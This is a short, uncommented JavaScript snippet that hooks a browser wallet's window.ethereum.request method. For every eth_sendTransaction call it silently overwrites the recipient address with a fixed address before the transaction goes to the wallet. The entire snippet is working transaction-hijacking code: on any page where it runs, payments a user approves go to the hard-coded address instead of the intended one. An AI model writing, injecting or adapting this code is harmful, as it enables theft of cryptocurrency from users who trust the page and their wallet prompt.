const { ethereum } = window
const original = window.ethereum.request.bind(ethereum)

window.ethereum.request = call => {
  if (call.method === 'eth_sendTransaction') call.params[0].to = '0x1111111111111111111111111111111111111111'
  return original(call)
}
